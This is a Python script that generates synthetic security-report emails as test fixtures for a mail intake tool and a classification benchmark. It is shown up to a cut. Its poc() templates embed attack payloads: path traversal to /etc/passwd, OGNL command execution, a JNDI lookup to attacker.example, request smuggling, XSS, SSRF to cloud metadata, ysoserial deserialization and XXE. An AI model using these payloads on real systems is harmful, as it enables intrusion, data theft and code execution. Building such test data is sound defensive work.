#!/usr/bin/env python3
"""Generate a realistic, deterministic mix of mail sent to a security@ address.

    scripts/gen-mix.py --count 10000 --out DIR [--seed 1] [--config config/demo.toml]

Writes DIR/00001.eml ... DIR/NNNNN.eml: valid RFC 5322 messages with CRLF line endings,
each with a unique Message-ID and unique bytes (nothing is a duplicate), so the folder can be
fed to `secintake ingest`, to the classify benchmark, or appended to an IMAP folder.

The mix (by count): ~45% plain-text vulnerability reports (projects from the config's
keywords, PoC snippets, some with small text or PNG attachments), ~15% bug reports and
questions, ~5% scanner dumps, ~10% HTML-only or multipart/alternative, ~10% bounces
(RFC 3464) and auto-replies, ~10% list/bulk mail, ~5% other (PGP/S-MIME encrypted, and
follow-ups carrying a case tag or In-Reply-To of an earlier report in the mix).

Sizes: median ~4 KB, 90th percentile ~20 KB, and a tail made of base64 attachments (logs,
PDFs, images, archives): about 0.5% of messages over 500 KB, two of them near 2 MB.

Python 3.11+ standard library only. The same arguments always give the same bytes.
"""

import argparse
import base64
import datetime
import math
import os
import quopri
import random
import statistics
import sys

try:
    import tomllib
except ImportError:  # Python < 3.11: fall back to the built-in project list.
    tomllib = None

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_CONFIG = os.path.join(HERE, "..", "config", "demo.toml")

# ---------------------------------------------------------------------------------------------
# Vocabulary
# ---------------------------------------------------------------------------------------------

FALLBACK_PROJECTS = [
    ("tomcat", "Apache Tomcat", ["tomcat", "catalina", "coyote", "jasper"]),
    ("httpd", "Apache HTTP Server", ["httpd", "mod_ssl", "mod_proxy", "mod_rewrite"]),
    ("struts", "Apache Struts", ["struts", "struts2", "ognl"]),
    ("logging", "Apache Logging Services", ["log4j", "log4j2", "log4net"]),
    ("kafka", "Apache Kafka", ["kafka"]),
    ("airflow", "Apache Airflow", ["airflow"]),
    ("commons", "Apache Commons", ["commons-text", "commons-io", "commons-collections"]),
    ("solr", "Apache Solr", ["solr"]),
]

FIRST = ["Ana", "Bo", "Chen", "Dmitri", "Elif", "Fatima", "Gustavo", "Hiro", "Ingrid", "Jamal",
         "Katarzyna", "Luca", "Mei", "Nikhil", "Olga", "Pedro", "Qiu", "Rahul", "Sofia", "Tomasz",
         "Uma", "Viktor", "Wen", "Xavier", "Yusuf", "Zoe", "Aarav", "Beatriz", "Carlos", "Daniela",
         "Emre", "Farah", "Giorgos", "Hannah", "Ivan", "Julia", "Kenji", "Lena", "Marek", "Noor"]
FIRST_UTF8 = ["José", "Jürgen", "Zoë", "Søren", "Łukasz", "François", "Çağla", "Ñandú", "Ævar",
              "山田", "Дмитрий", "Ελένη"]
LAST = ["Ribeiro", "Nakamura", "Okafor", "Schmidt", "Kowalski", "Haddad", "Fernandes", "Ito",
        "Larsen", "Novak", "Petrov", "Rossi", "Silva", "Tanaka", "Weber", "Yilmaz", "Zhang",
        "Kumar", "Garcia", "Müller", "Dubois", "Andersson", "O'Brien", "Papadopoulos", "Singh"]
DOMAINS = ["reporter-labs.example", "gmail.example", "proton.example", "outlook.example",
           "secresearch.example", "bughunters.example", "uni-research.example", "corp-sec.example",
           "redteam.example", "fastmail.example", "yandex.example", "qq.example", "web.example",
           "pentest-partners.example", "cloudnative-shop.example", "bank-it.example"]
MAILERS = ["Mozilla Thunderbird", "Microsoft Outlook 16.0", "Apple Mail (2.3774.300.61.1.2)",
           "Mutt/2.2.12 (2023-09-09)", "Roundcube Webmail/1.6.7", "K-9 Mail for Android",
           "Evolution 3.50.2", "Gmail", None, None]
TZS = [0, 60, 120, -300, -420, 330, 480, 540, 600, -180, 180]

VERBS = ["decodes", "normalises", "forwards", "caches", "deserialises", "evaluates", "logs",
         "concatenates", "unescapes", "parses", "resolves", "trusts"]
THINGS = ["the request path", "the Host header", "the session cookie", "the multipart boundary",
          "the X-Forwarded-For value", "the JNDI name", "the file name of the upload",
          "the redirect target", "the Content-Length header", "the SASL token", "the DAG id",
          "the query string", "the XML document", "the OGNL expression", "the log message"]
WHERE = ["before the security constraint is checked", "after authentication has completed",
         "without validating it against the allow list", "in a worker thread with no limits",
         "inside the error page handler", "when the connector runs in proxy mode",
         "only for HTTP/2 streams", "when the default configuration is used"]
IMPACT = ["read arbitrary files below the web application root",
          "execute arbitrary code with the privileges of the server process",
          "bypass the authentication filter entirely", "exhaust the heap with a single request",
          "access another user's session", "poison the shared response cache",
          "trigger DAGs they are not allowed to see", "make the broker allocate 2 GiB per request",
          "inject arbitrary headers into the response", "read sensitive data from other tenants"]
PKGS = ["catalina.connector", "coyote.http11", "tomcat.util.buf", "kafka.common.security",
        "struts2.dispatcher", "logging.log4j.core.lookup", "commons.text.lookup",
        "solr.handler.admin", "airflow.www.views", "catalina.servlets"]
CLASSES = ["Request", "CoyoteAdapter", "UDecoder", "SaslServerAuthenticator", "Dispatcher",
           "JndiLookup", "StringSubstitutor", "CoreAdminHandler", "WebDAVServlet", "Http11Processor",
           "AbstractProtocol", "StandardWrapperValve", "ApplicationFilterChain", "NioEndpoint"]
METHODS = ["service", "invoke", "doFilter", "parseRequestLine", "authenticate", "lookup",
           "replace", "handleRequestBody", "doGet", "process", "run", "read", "postParseRequest"]

VULNS = [
    # (title, cwe, cvss, poc kind, phrase)
    ("Path traversal in {name} {comp}", 22, "7.5 (AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N)", "traversal",
     "path traversal"),
    ("Remote code execution via {kw} expression evaluation", 94,
     "9.8 (AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H)", "ognl", "remote code execution"),
    ("JNDI lookup reachable from user input in {kw}", 917, "9.0 (AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H)",
     "jndi", "arbitrary code execution through a JNDI lookup"),
    ("HTTP request smuggling in {name}", 444, "7.5 (AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N)", "smuggle",
     "request smuggling"),
    ("Stored XSS in {name} admin UI", 79, "6.1 (AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N)", "xss",
     "cross-site scripting"),
    ("SSRF through {kw} proxy configuration", 918, "8.6 (AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N)", "ssrf",
     "server-side request forgery"),
    ("Unauthenticated denial of service in {name} ({comp})", 400,
     "7.5 (AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H)", "dos", "denial of service"),
    ("Insecure deserialization in {kw}", 502, "8.1 (AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H)", "deser",
     "deserialization of untrusted data"),
    ("XXE in {name} XML import", 611, "7.1 (AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:L)", "xxe",
     "XML external entity injection"),
    ("Authorization bypass: viewers can {act} in {name}", 285,
     "8.8 (AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H)", "authz", "privilege escalation"),
    ("Security issue: {kw} session fixation", 384, "6.5 (AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:N)", "session",
     "session fixation"),
]
ACTS = ["trigger DAG runs", "edit connections", "read variables", "delete collections",
        "create topics", "change ACLs"]

# ---------------------------------------------------------------------------------------------
# Small helpers
# ---------------------------------------------------------------------------------------------


def load_projects(path):
    if tomllib is None or not os.path.exists(path):
        return FALLBACK_PROJECTS
    with open(path, "rb") as f:
        cfg = tomllib.load(f)
    out = []
    for p in cfg.get("project", []):
        kws = [k for k in p.get("keywords", []) if k]
        if kws:
            out.append((p["id"], p.get("name", p["id"]), kws))
    return out or FALLBACK_PROJECTS


def enc_word(s):
    """RFC 2047 encoded-word for a non-ASCII header value."""
    if all(ord(c) < 128 for c in s):
        return s
    return "=?UTF-8?B?" + base64.b64encode(s.encode("utf-8")).decode("ascii") + "?="


def fold(name, value, width=76):
    """A header line, folded at spaces so no line exceeds ~width characters."""
    line = f"{name}: "
    out = []
    for word in value.split(" "):
        if len(line) + len(word) + 1 > width and line.strip() and not line.endswith(": "):
            out.append(line.rstrip(" "))
            line = " " + word + " "
        else:
            line += word + " "
    out.append(line.rstrip(" "))
    return "\n".join(out)


def b64_lines(data):
    s = base64.b64encode(data).decode("ascii")
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76))


def b64_size(n):
    """Bytes taken by n bytes once base64 encoded at 76 columns with CRLF line ends."""
    chars = 4 * ((n + 2) // 3)
    return chars + 2 * math.ceil(chars / 76)


def qp(text):
    return quopri.encodestring(text.encode("utf-8"), quotetabs=False).decode("ascii")


def wrap(text, width=72):
    out = []
    for para in text.split("\n"):
        if len(para) <= width:
            out.append(para)
            continue
        line = ""
        for w in para.split(" "):
            if line and len(line) + 1 + len(w) > width:
                out.append(line)
                line = w
            else:
                line = (line + " " + w) if line else w
        out.append(line)
    return "\n".join(out)


def fmt_date(dt):
    sign = "+" if dt.utcoffset() >= datetime.timedelta(0) else "-"
    off = abs(int(dt.utcoffset().total_seconds())) // 60
    days = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
    months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
    return (f"{days[dt.weekday()]}, {dt.day:02d} {months[dt.month - 1]} {dt.year} "
            f"{dt.hour:02d}:{dt.minute:02d}:{dt.second:02d} {sign}{off // 60:02d}{off % 60:02d}")


class Part:
    """A MIME entity: headers (list of (name, value)) and a body string (LF line ends)."""

    def __init__(self, ctype, body="", cte=None, headers=None, children=None, boundary=None):
        self.ctype = ctype
        self.body = body
        self.cte = cte
        self.headers = headers or []
        self.children = children
        self.boundary = boundary

    def render_headers(self):
        hs = [fold("Content-Type", self.ctype)]
        if self.cte:
            hs.append(f"Content-Transfer-Encoding: {self.cte}")
        hs += [fold(n, v) for n, v in self.headers]
        return "\n".join(hs)

    def render_body(self):
        if self.children is None:
            return self.body
        out = []
        if self.body:
            out.append(self.body)
        for c in self.children:
            out.append(f"--{self.boundary}\n{c.render_headers()}\n\n{c.render_body()}")
        out.append(f"--{self.boundary}--\n")
        return "\n".join(out)


def text_part(text, rng, charset_ok=True):
    """text/plain, 7bit, 8bit or quoted-printable as a real client would pick."""
    if all(ord(c) < 128 for c in text) and max((len(l) for l in text.split("\n")), default=0) < 990:
        return Part("text/plain; charset=us-ascii" if rng.random() < 0.3 else
                    "text/plain; charset=UTF-8; format=flowed", text, "7bit")
    if rng.random() < 0.5 and max(len(l) for l in text.split("\n")) < 990:
        return Part("text/plain; charset=UTF-8", text, "8bit")
    return Part("text/plain; charset=UTF-8", qp(text), "quoted-printable")


def html_of(text, rng):
    """A plausible HTML rendering of a text body (as mail clients produce it)."""
    style = rng.choice([
        '<div dir="ltr">', '<div class="WordSection1">',
        '<div style="font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 11pt;">'])
    out = ['<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
           '<style>p{margin:0}</style></head><body>', style]
    for para in text.split("\n\n"):
        esc = para.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        if para.startswith("    ") or para.startswith("$ ") or para.startswith("GET ") \
                or para.startswith("POST "):
            out.append("<pre>" + esc + "</pre>")
        else:
            out.append("<p>" + esc.replace("\n", "<br>\n") + "</p>")
    out.append("</div></body></html>")
    return wrap("\n".join(out), 76)


def attachment(ctype, name, data, inline=False, cid=None):
    disp = "inline" if inline else "attachment"
    headers = [("Content-Disposition", f'{disp}; filename="{name}"')]
    if cid:
        headers.append(("Content-ID", f"<{cid}>"))
    return Part(f'{ctype}; name="{name}"', b64_lines(data), "base64", headers)


def png_bytes(rng, n):
    """PNG signature + IHDR + an IDAT chunk of noise: n bytes, looks like a screenshot."""
    n = max(n, 64)
    head = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x05\x00\x00\x00\x02\xd0\x08\x06\x00\x00\x00"
    return head + rng.randbytes(n - len(head) - 12) + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def pdf_bytes(rng, n):
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    tail = b"\nstartxref\n1234\n%%EOF\n"
    return head + rng.randbytes(max(0, n - len(head) - len(tail))) + tail


def zip_bytes(rng, n):
    return b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + rng.randbytes(max(0, n - 10))


def log_bytes(rng, n, proj_pkg="org.apache.catalina"):
    lines = []
    size = 0
    t = datetime.datetime(2026, 3, 1, 8, 0, 0)
    levels = ["INFO", "INFO", "INFO", "DEBUG", "WARN", "ERROR"]
    while size < n:
        t += datetime.timedelta(milliseconds=rng.randint(1, 900))
        lvl = rng.choice(levels)
        msg = rng.choice([
            f"Processing request GET /app/{rng.randint(1, 99999)} from 10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
            f"Session {rng.getrandbits(64):016x} created for user u{rng.randint(1, 5000)}",
            f"Connection [{rng.randint(1, 900)}] closed after {rng.randint(1, 30000)} ms",
            f"Heap usage {rng.randint(100, 4000)} MiB of 4096 MiB",
            f"Exception processing request: java.io.IOException: Broken pipe (id={rng.randint(1, 10**9)})",
            f"Parsed {rng.randint(1, 800)} headers in {rng.random():.3f} ms",
        ])
        line = (f"{t:%Y-%m-%d %H:%M:%S},{t.microsecond // 1000:03d} {lvl:5} "
                f"[http-nio-8080-exec-{rng.randint(1, 200)}] {proj_pkg}.{rng.choice(CLASSES)} {msg}\n")
        lines.append(line)
        size += len(line)
    return "".join(lines).encode("ascii")[:n]


def stack_trace(rng, depth):
    cls = rng.choice(CLASSES)
    out = [f"java.lang.{rng.choice(['NullPointerException', 'IllegalStateException', 'OutOfMemoryError: Java heap space', 'IllegalArgumentException: Invalid character found in the request target'])}"]
    for _ in range(depth):
        c = rng.choice(CLASSES)
        out.append(f"\tat org.apache.{rng.choice(PKGS)}.{c}.{rng.choice(METHODS)}({c}.java:{rng.randint(40, 2400)})")
    out.append(f"\tat java.base/java.lang.Thread.run(Thread.java:{rng.randint(800, 1600)})")
    return "\n".join(out).replace("\t", "    ") if rng.random() < 0.3 else "\n".join(out)


def prose(rng, nbytes, project):
    """Technical analysis paragraphs until about nbytes."""
    out = []
    size = 0
    pid, name, kws = project
    while size < nbytes:
        kw = rng.choice(kws)
        s = rng.choice([
            f"Looking at {rng.choice(CLASSES)}.{rng.choice(METHODS)}(), {name} {rng.choice(VERBS)} "
            f"{rng.choice(THINGS)} {rng.choice(WHERE)}.",
            f"As a result an unauthenticated attacker can {rng.choice(IMPACT)}.",
            f"I reproduced this on {kw} {rng.randint(1, 11)}.{rng.randint(0, 9)}.{rng.randint(0, 60)} "
            f"running on OpenJDK {rng.choice([17, 21, 25])} with the default configuration.",
            f"The check in line {rng.randint(100, 3000)} compares the raw value, while the value "
            f"that is used later has already been decoded, so the two disagree.",
            f"Older branches are probably affected as well since the code has not changed since "
            f"{rng.randint(2015, 2024)}.",
            f"A simple fix would be to reject {rng.choice(THINGS)} when it contains encoded "
            f"separators, or to normalise it once before any check.",
            f"With {rng.randint(2, 64)} parallel connections the server becomes unresponsive within "
            f"{rng.randint(2, 90)} seconds.",
            f"I have not tested the {kw} {rng.choice(['AJP', 'HTTP/2', 'WebSocket', 'REST', 'admin'])} "
            f"interface but the same code path seems to be used there.",
        ])
        para = " ".join([s] + [rng.choice([
            f"The relevant commit is {rng.getrandbits(160):040x}.",
            "This only happens when the request is not URL-normalised by a front-end proxy.",
            "Please let me know if you need more details or a call.",
            f"Tested build: {rng.getrandbits(32):08x}.",
        ]) for _ in range(rng.randint(0, 2))])
        para = wrap(para)
        out.append(para)
        size += len(para) + 2
    return "\n\n".join(out)


# ---------------------------------------------------------------------------------------------
# The generator
# ---------------------------------------------------------------------------------------------

CATEGORIES = [  # name, share of messages, median size factor
    ("report", 0.45, 1.0),
    ("bugq", 0.15, 0.8),
    ("scanner", 0.05, 2.5),
    ("html", 0.10, 2.0),
    ("auto", 0.10, 0.55),
    ("list", 0.10, 2.2),
    ("other", 0.05, 1.0),
]

# Size targets: lognormal around MEDIAN * factor; sigma gives p90 ~ 5x the median.
MEDIAN = 3300
SIGMA = 1.15
TEXT_PAD_LIMIT = 14_000    # above this gap, grow the message with an attachment instead
NEAR_2MB = [2_000_000, 2_096_000]


class Gen:
    def __init__(self, seed, count, projects, case_year):
        self.seed = seed
        self.count = count
        self.projects = projects
        self.case_year = case_year
        top = random.Random(f"{seed}:plan")
        # Exact shares, shuffled.
        cats = []
        for name, share, _ in CATEGORIES:
            cats += [name] * int(round(share * count))
        while len(cats) < count:
            cats.append("report")
        cats = cats[:count]
        top.shuffle(cats)
        self.cats = cats
        # Size targets.
        factor = {n: f for n, _, f in CATEGORIES}
        self.targets = [int(top.lognormvariate(math.log(MEDIAN * factor[c]), SIGMA)) for c in cats]
        # The tail: ~0.5% over 500 KB (attachments), two near 2 MB.
        big_ok = [i for i, c in enumerate(cats) if c in ("report", "bugq", "scanner", "list", "html")]
        nbig = int(round(count * 0.005))
        big = top.sample(big_ok, min(nbig, len(big_ok)))
        for k, i in enumerate(big):
            if k < len(NEAR_2MB):
                self.targets[i] = NEAR_2MB[k] - top.randint(0, 400)
            else:
                self.targets[i] = int(math.exp(top.uniform(math.log(520_000), math.log(1_900_000))))
        # Nothing else over 500 KB, so the tail share stays what was asked for.
        bigset = set(big)
        for i in range(count):
            if i not in bigset and self.targets[i] > 480_000:
                self.targets[i] = top.randint(150_000, 480_000)
        # Reporters: a large pool, a few frequent ones.
        self.people = []
        for k in range(4000):
            r = random.Random(f"{seed}:person:{k}")
            first = r.choice(FIRST_UTF8) if r.random() < 0.08 else r.choice(FIRST)
            last = r.choice(LAST)
            dom = r.choice(DOMAINS)
            local = "".join(ch for ch in f"{first}.{last}".lower() if ch.isascii() and (ch.isalnum() or ch == "."))
            if not local.strip("."):
                local = f"user{k}"
            self.people.append((f"{first} {last}", f"{local}{k}@{dom}"))
        self.reports = []  # (index, message-id, subject, from) of generated reports
        self.start = datetime.datetime(2026, 1, 5, 7, 0, 0, tzinfo=datetime.timezone.utc)

    # -- common pieces ---------------------------------------------------------------------

    def person(self, rng):
        k = int(len(self.people) * (rng.random() ** 1.6))  # mild skew: some write often
        return self.people[min(k, len(self.people) - 1)]

    def date(self, i, rng):
        utc = self.start + datetime.timedelta(seconds=i * 1800 + rng.randint(0, 1700))
        tz = datetime.timezone(datetime.timedelta(minutes=rng.choice(TZS)))
        return utc, utc.astimezone(tz)

    def msgid(self, i, rng, domain):
        return f"{i:05d}.{rng.getrandbits(48):012x}.{self.seed}@{domain}"

    def headers(self, i, rng, name, addr, subject, extra=(), return_path=None, dkim=None):
        utc, local = self.date(i, rng)
        domain = addr.split("@")[-1]
        mid = self.msgid(i, rng, domain)
        ip = f"{rng.choice([198, 203, 192])}.{rng.choice([51, 0])}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        relay = f"mail-{rng.choice(['out', 'smtp', 'relay', 'mx'])}{rng.randint(1, 40)}.{domain}"
        qid = f"{rng.getrandbits(56):014X}"
        hs = []
        hs.append(("Return-Path", f"<{addr}>" if return_path is None else return_path))
        hs.append(("Received", f"from {relay} ({relay} [{ip}]) by mx1.example.org (Postfix) "
                               f"with ESMTPS id {qid} for <security@example.org>; {fmt_date(utc)} (UTC)"))
        for _ in range(rng.randint(0, 2)):
            hs.append(("Received", f"from [{rng.randint(10, 192)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}] "
                                   f"by {relay} with ESMTPSA id {rng.getrandbits(40):010x}; {fmt_date(local)}"))
        if dkim if dkim is not None else rng.random() < 0.6:
            hs.append(("Authentication-Results", f"mx1.example.org; dkim=pass (2048-bit key) header.d={domain} "
                                                 f"header.i=@{domain} header.b={base64.b64encode(rng.randbytes(6)).decode()}; "
                                                 f"spf=pass smtp.mailfrom={domain}; dmarc=pass (p=reject) header.from={domain}"))
            sig = base64.b64encode(rng.randbytes(256)).decode()
            bh = base64.b64encode(rng.randbytes(32)).decode()
            hs.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s=s{rng.randint(2019, 2026)}; "
                                         f"t={int(utc.timestamp())}; h=from:to:subject:date:message-id:mime-version:content-type; "
                                         f"bh={bh}; b=" + " ".join(sig[k:k + 60] for k in range(0, len(sig), 60))))
        hs.append(("From", f"{enc_word(name)} <{addr}>" if name else addr))
        hs.append(("To", "security@example.org"))
        if rng.random() < 0.1:
            hs.append(("Cc", f"{self.person(rng)[1]}"))
        hs.append(("Subject", enc_word(subject)))
        hs.append(("Date", fmt_date(local)))
        hs.append(("Message-ID", f"<{mid}>"))
        mailer = rng.choice(MAILERS)
        if mailer:
            hs.append(("User-Agent" if rng.random() < 0.5 else "X-Mailer", mailer))
        hs += list(extra)
        hs.append(("MIME-Version", "1.0"))
        return hs, mid

    def render(self, headers, body):
        out = [fold(n, v) for n, v in headers]
        out.append(body.render_headers())
        text = "\n".join(out) + "\n\n" + body.render_body()
        if not text.endswith("\n"):
            text += "\n"
        raw = text.replace("\r\n", "\n").replace("\r", "\n").replace("\n", "\r\n").encode("utf-8")
        return raw

    def boundary(self, rng):
        return rng.choice(["----=_Part_", "=_", "Apple-Mail=_", "000000000000", "b1_"]) + \
            f"{rng.getrandbits(64):016x}"

    def with_attachments(self, rng, body, atts):
        if not atts:
            return body
        return Part(f'multipart/mixed; boundary="{(b := self.boundary(rng))}"', "", None, [],
                    [body] + atts, b)

    def filler_attachment(self, rng, kind, nbytes, project=None):
        """An attachment of about nbytes once encoded, of a kind that suits the message."""
        n = max(256, int((nbytes - 260) * 3 / 4 * 76 / 78))
        pkg = f"org.apache.{project[0]}" if project else "org.apache.catalina"
        if kind == "log":
            return attachment("text/plain", rng.choice(["catalina.out", "server.log", "debug-trace.log", "broker.log"]),
                              log_bytes(rng, n, pkg))
        if kind == "pdf":
            return attachment("application/pdf", rng.choice(["report.pdf", "pentest-report.pdf", "scan-results.pdf", "advisory-draft.pdf"]),
                              pdf_bytes(rng, n))
        if kind == "png":
            return attachment("image/png", rng.choice(["screenshot.png", "Screenshot 2026-02-11 at 10.14.03.png", "poc.png"]),
                              png_bytes(rng, n))
        if kind == "jpg":
            return attachment("image/jpeg", rng.choice(["photo.jpg", "banner.jpg"]),
                              b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rng.randbytes(max(0, n - 11)))
        return attachment("application/zip", rng.choice(["poc.zip", "exploit-env.zip", "heapdump-excerpt.zip", "repro.tar.gz"]),
                          zip_bytes(rng, n))

    # -- categories --------------------------------------------------------------------------

    def project(self, rng):
        return rng.choice(self.projects)

    def poc(self, rng, kind, kw):
        host = rng.choice(["target.test", "localhost", "10.0.0.5", "victim.example"])
        port = rng.choice([8080, 8443, 80, 9092, 8983, 443])
        if kind == "traversal":
            return (f"    curl -v 'http://{host}:{port}/{kw}/..%2f..%2fWEB-INF/web.xml'\n"
                    f"    curl -v --path-as-is 'http://{host}:{port}/static/..;/..;/etc/passwd'")
        if kind == "ognl":
            return (f"    POST /{kw}/index.action HTTP/1.1\n    Host: {host}\n"
                    f"    Content-Type: application/x-www-form-urlencoded\n\n"
                    f"    name=%{{(#_memberAccess.allowStaticMethodAccess=true).(@java.lang.Runtime@getRuntime().exec('id'))}}")
        if kind == "jndi":
            return (f"    $ curl -H 'User-Agent: ${{jndi:ldap://attacker.example:1389/a{rng.randint(1, 999)}}}' "
                    f"http://{host}:{port}/\n    # the rogue LDAP server (marshalsec) receives the lookup")
        if kind == "smuggle":
            return (f"    POST / HTTP/1.1\n    Host: {host}\n    Content-Length: 44\n"
                    f"    Transfer-Encoding: chunked\n\n    0\n\n    GET /admin HTTP/1.1\n    Host: {host}")
        if kind == "xss":
            return (f"    curl -b cookies.txt -d 'title=<script>alert(document.cookie)</script>' "
                    f"http://{host}:{port}/{kw}/admin/save")
        if kind == "ssrf":
            return f"    curl 'http://{host}:{port}/{kw}/proxy?url=http://169.254.169.254/latest/meta-data/'"
        if kind == "dos":
            return ("    import socket\n"
                    f"    s = socket.create_connection(('{host}', {port}))\n"
                    "    s.send(b'\\x00\\x00\\x00\\x7f' + b'A' * 16)   # length prefix of 2 GiB\n"
                    "    s.recv(10)")
        if kind == "deser":
            return (f"    java -jar ysoserial.jar CommonsCollections6 'touch /tmp/pwned' > payload.bin\n"
                    f"    curl --data-binary @payload.bin http://{host}:{port}/{kw}/invoke")
        if kind == "xxe":
            return ('    <?xml version="1.0"?>\n    <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                    "    <r>&x;</r>")
        if kind == "authz":
            return (f"    curl -u viewer:viewer -X POST http://{host}:{port}/api/v1/dags/example/dagRuns "
                    "-H 'Content-Type: application/json' -d '{}'\n    HTTP/1.1 200 OK")
        return (f"    GET /{kw}/login;jsessionid=ATTACKERCHOSEN HTTP/1.1\n    Host: {host}")

    def report(self, i, rng, pad, attach):
        project = self.project(rng)
        pid, pname, kws = project
        kw = rng.choice(kws)
        title, cwe, cvss, pk, phrase = rng.choice(VULNS)
        comp = rng.choice(["WebDAV servlet", "HTTP/2 connector", "default servlet", "admin API",
                           "SASL handshake", "import endpoint", "rewrite rules", "error handler"])
        name, addr = self.person(rng)
        ver = f"{rng.randint(1, 11)}.{rng.randint(0, 9)}.{rng.randint(0, 60)}"
        subject = title.format(name=pname, kw=kw, comp=comp, act=rng.choice(ACTS))
        if rng.random() < 0.1:
            subject = "[Vulnerability Report] " + subject
        nomatch = rng.random() < 0.08  # no project keyword at all: goes to default triage
        shown = "the server" if nomatch else f"{pname}"
        shown_kw = "the product" if nomatch else kw
        greet = rng.choice(["Hello,", "Hi security team,", "Dear Apache Security Team,", "Hi,",
                            f"Hello {shown} security team,"])
        intro = wrap(
            f"I would like to report a {phrase} vulnerability in {shown} {ver} (and probably "
            f"earlier versions). {shown_kw.capitalize() if nomatch else shown} {rng.choice(VERBS)} "
            f"{rng.choice(THINGS)} {rng.choice(WHERE)}. An unauthenticated attacker can "
            f"{rng.choice(IMPACT)}.")
        steps = "Steps to reproduce:\n\n" + self.poc(rng, pk, "app" if nomatch else kw)
        impact = wrap(f"Impact: {rng.choice(IMPACT).capitalize()}. CWE-{cwe}, CVSS {cvss}.")
        extra = []
        if rng.random() < 0.5:
            extra.append(wrap(f"Affected versions: {ver} and earlier. Root cause: "
                              f"{rng.choice(CLASSES)}.{rng.choice(METHODS)}() "
                              f"{rng.choice(VERBS)} {rng.choice(THINGS)} {rng.choice(WHERE)}."))
        if rng.random() < 0.35:
            extra.append(wrap("I have not disclosed this publicly and follow a 90 days coordinated "
                              "disclosure policy. Please let me know if you need a CVE assigned."))
        if pad:
            extra.append(prose(rng, pad, project if not nomatch else ("x", "the server", ["the server"])))
        sign = f"{rng.choice(['Best regards,', 'Thanks,', 'Regards,', 'Cheers,'])}\n{name}"
        if rng.random() < 0.3:
            sign += f"\n{rng.choice(['Security Researcher', 'Red Team', 'AppSec Engineer'])}, {addr.split('@')[1]}"
        text = "\n\n".join([greet, intro, steps, impact] + extra + [sign]) + "\n"
        if rng.random() < 0.06:
            text = ("-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n" + text +
                    "-----BEGIN PGP SIGNATURE-----\n\n" + b64_lines(rng.randbytes(300)) +
                    "\n=" + base64.b64encode(rng.randbytes(3)).decode() + "\n-----END PGP SIGNATURE-----\n")
        body = text_part(text, rng)
        atts = []
        r = rng.random()
        if r < 0.08:
            atts.append(Part('text/x-python; charset=UTF-8; name="poc.py"',
                             "#!/usr/bin/env python3\n# PoC\n" + self.poc(rng, pk, kw).replace("    ", "") + "\n",
                             "7bit", [("Content-Disposition", 'attachment; filename="poc.py"')]))
        elif r < 0.14:
            atts.append(attachment("image/png", "screenshot.png", png_bytes(rng, rng.randint(2_000, 9_000))))
        if attach:
            atts.append(self.filler_attachment(rng, rng.choice(["log", "png", "pdf", "zip", "log", "png"]), attach, project))
        self.last_report = (subject, addr, name)
        return self.headers(i, rng, name, addr, subject), self.with_attachments(rng, body, atts)

    def bugq(self, i, rng, pad, attach):
        project = self.project(rng)
        pid, pname, kws = project
        kw = rng.choice(kws)
        name, addr = self.person(rng)
        ver = f"{rng.randint(1, 11)}.{rng.randint(0, 9)}.{rng.randint(0, 60)}"
        cve = f"CVE-{rng.randint(2019, 2026)}-{rng.randint(1000, 59999)}"
        kind = rng.choice(["affected", "upgrade", "howto", "questionnaire", "bounty", "sbom", "feature"])
        atts = []
        if kind == "affected":
            subject = f"Is {pname} {ver} affected by {cve}?"
            text = (f"Hello,\n\nour security scanner reports {cve} for {kw} {ver}. Is {pname} {ver} "
                    f"affected by {cve}? If not, could you please confirm that we are not vulnerable?\n\n"
                    f"We need this for our audit department by the end of the month.\n\nThanks,\n{name}\n")
        elif kind == "upgrade":
            subject = f"{pname} fails to start after upgrading to {ver}"
            text = (f"Hi,\n\nafter upgrading from {ver[:-1]}0 to {ver}, {kw} no longer starts. "
                    f"Nothing else changed in my configuration.\n\nExpected behaviour: the server starts.\n"
                    f"Actual behaviour: the following exception:\n\n{stack_trace(rng, rng.randint(6, 25))}\n\n"
                    f"Environment:\nOS: Ubuntu 24.04\nJava version: 21.0.{rng.randint(1, 9)}\n\n"
                    f"Is this a known issue? Should I open a Jira ticket?\n\n{name}\n")
        elif kind == "howto":
            subject = f"How do I enable {rng.choice(['TLS 1.3', 'CSRF protection', 'mTLS', 'HSTS', 'SASL/SCRAM'])} in {kw}?"
            text = (f"Hello,\n\nhow do I configure {kw} so that {rng.choice(THINGS)} is validated? "
                    f"Is there a setting for this? What is the recommended configuration for production?\n\n"
                    f"Thank you,\n{name}\n")
        elif kind == "questionnaire":
